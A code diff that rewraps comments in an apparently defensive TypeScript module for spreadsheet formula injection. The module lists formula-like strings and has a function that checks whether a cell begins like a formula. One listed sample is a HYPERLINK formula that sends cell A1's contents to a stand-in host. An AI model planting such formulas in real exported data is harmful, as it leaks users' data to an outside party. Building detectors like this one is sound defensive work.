@@ -1,4 +1,5 @@
-// Texts that a spreadsheet would calculate with, carry out or tear apart: each as somebody could type it into a remark.
+// Texts that a spreadsheet would calculate with, carry out or tear apart: each as somebody could type it into
+// a remark.
 export const FORMULA_TEXTS: readonly string[] = [
   '=1+1',
   '=HYPERLINK("http://x.example/?"&A1;"Klick")',
@@ -91,7 +92,10 @@ const UNSEEN = new RegExp(
   'u',
 )
 
-/** Does a cell, as a program reads it, begin with anything that could be a formula? Written on its own, apart from the rule that prevents it. */
+/**
+ * Does a cell, as a program reads it, begin with anything that could be a formula? Written on its own, apart
+ * from the rule that prevents it.
+ */
 export function beginsLikeFormula(cell: string): boolean {
   const seen = cell.replace(UNSEEN, '')
   return (
